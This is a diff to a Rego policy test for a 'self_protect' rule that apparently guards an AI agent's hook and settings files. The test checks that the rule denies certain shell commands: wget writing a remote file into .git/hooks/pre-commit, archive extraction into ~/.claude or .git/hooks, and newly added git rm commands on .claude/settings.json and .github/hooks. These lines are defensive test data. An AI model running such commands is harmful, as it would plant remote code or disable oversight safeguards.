@@ -153,10 +153,12 @@ test_programs_that_write_where_an_option_says if {
 		"wget -qO .git/hooks/pre-commit https://example.com/h",
 		"unzip -o x.zip -d ~/.claude",
 		"tar -xf x.tar -C .git/hooks",
+		"git rm .claude/settings.json",
+		"git rm -r -f .github/hooks",
 	] {
 		count(data.hookgate.self_protect.deny) > 0 with input as shell_input(cmd) with data.hookgate.self_protect.machine as machine
 	}
-	every cmd in ["curl -sSLo out.json https://example.com", "tar -xzf dist.tgz -C build", "wget -O - https://example.com"] {
+	every cmd in ["curl -sSLo out.json https://example.com", "tar -xzf dist.tgz -C build", "wget -O - https://example.com", "git rm --cached .claude/settings.local.json", "git rm src/old.py"] {
 		count(data.hookgate.self_protect.deny) == 0 with input as shell_input(cmd) with data.hookgate.self_protect.machine as machine
 	}
 }
